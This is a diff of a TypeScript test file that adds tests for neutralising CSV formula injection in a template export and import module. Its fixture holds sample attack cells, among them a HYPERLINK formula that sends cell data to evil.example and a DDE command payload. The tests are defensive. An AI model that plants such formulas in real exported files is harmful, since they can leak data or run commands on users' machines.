@@ -1,8 +1,8 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import {
-  decodeCsvBytes, detectSeparator, formatCsv, formatWeekdays, nameFromKegiatan, parseCsv, parseTemplatesCsv, parseWeekdays,
-  templatesToCsv, type CsvImport, type CsvRowError, type CsvSeparator,
+  decodeCsvBytes, detectSeparator, formatCsv, formatWeekdays, guardCell, nameFromKegiatan, parseCsv, parseTemplatesCsv, parseWeekdays,
+  templatesToCsv, unguardCell, type CsvImport, type CsvRowError, type CsvSeparator,
 } from '@/utils/templates/csv';
 import { validateTemplateFields, type TemplateFields } from '@/utils/templates/validate';
 import { PROPERTY_TIMEOUT_MS } from '../../helpers/property';
@@ -211,9 +211,41 @@ describe('templatesToCsv', () => {
     );
   });
 
+  it('neutralises formula cells with a leading apostrophe (formula injection), and import takes it off again', () => {
+    const evil: TemplateFields = {
+      ...mengajar,
+      rencanaAksi: '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
+      kegiatan: '+1+cmd|\'/C calc\'!A0',
+      satuan: '-2+3',
+      name: '@SUM(1)',
+    };
+    const csv = templatesToCsv([evil]);
+    expect(csv.split('\r\n')[1]).toBe(
+      '"\'=HYPERLINK(""https://evil.example/?""&A1,""Klik"")";;07:30;09:00;\'+1+cmd|\'/C calc\'!A0;2;\'-2+3;https://drive.google.com/drive/folders/abc;\'@SUM(1);Senin-Jumat',
+    );
+    expect(parseTemplatesCsv(csv)).toEqual({ ok: true, templates: [evil], separator: ';', ignoredColumns: [] });
+    // Harmless text is written as it is; an apostrophe the user typed survives the round trip.
+    expect(guardCell('Rapat - koordinasi')).toBe('Rapat - koordinasi');
+    expect(guardCell('  =1+1')).toBe("'  =1+1");
+    expect(guardCell('\tx')).toBe("'\tx");
+    expect(guardCell("'=1")).toBe("''=1");
+    expect(unguardCell("''=1")).toBe("'=1");
+    expect(unguardCell("'Jum'at")).toBe("'Jum'at");
+    expect(unguardCell("'-")).toBe('-');
+  });
+
+  it('never writes a cell a spreadsheet would evaluate, and guarding is undone exactly', { timeout: PROPERTY_TIMEOUT_MS }, () => {
+    const cell = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", ' ', '\t', '\r', '\n', 'a', '1') });
+    fc.assert(fc.property(cell, (c) => {
+      const g = guardCell(c);
+      expect(g).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
+      expect(unguardCell(g)).toBe(c);
+    }), { numRuns: 5000 });
+  });
+
   it('round-trips random valid templates through every separator', { timeout: PROPERTY_TIMEOUT_MS }, () => {
-    const piece = fc.constantFrom('Rapat', 'kelas 7A', ' ', ';', ',', '"', '""', '\n', '\r\n', '\t', '{tanggal}', '{{', '}}', 'é', 'Jum\'at', '=1+1', '-');
-    const text = fc.tuple(fc.constantFrom('A', 'Laporan', 'x'), fc.array(piece, { maxLength: 8 })).map(([a, p]) => a + p.join(''));
+    const piece = fc.constantFrom('Rapat', 'kelas 7A', ' ', ';', ',', '"', '""', '\n', '\r\n', '\t', '{tanggal}', '{{', '}}', 'é', 'Jum\'at', '=1+1', '-', '@', '+', "'", "'=");
+    const text = fc.tuple(fc.constantFrom('A', 'Laporan', 'x', '=', '-', "'", "'-", '@'), fc.array(piece, { maxLength: 8 })).map(([a, p]) => a + p.join(''));
     const minute = fc.integer({ min: 0, max: 23 * 60 + 59 });
     const style = fc.constantFrom((h: number, m: number) => `${h}:${String(m).padStart(2, '0')}`, (h: number, m: number) => `${String(h).padStart(2, '0')}.${String(m).padStart(2, '0')}`);
     const draft = fc.record({
@@ -248,7 +280,7 @@ describe('plain CSV', () => {
   });
 
   it('round-trips any cells', { timeout: PROPERTY_TIMEOUT_MS }, () => {
-    const cell = fc.string({ unit: fc.constantFrom('a', ' ', ';', ',', '\t', '"', '\n', '\r', 'é') });
+    const cell = fc.string({ unit: fc.constantFrom('a', ' ', ';', ',', '\t', '"', '\n', '\r', 'é', '=', '-', '@', '+', "'") });
     const row = fc.array(cell, { minLength: 2, maxLength: 5 });
     fc.assert(fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), fc.constantFrom<CsvSeparator>(';', ',', '\t'), (rows, sep) => {
       const r = parseCsv(formatCsv(rows, sep), sep);
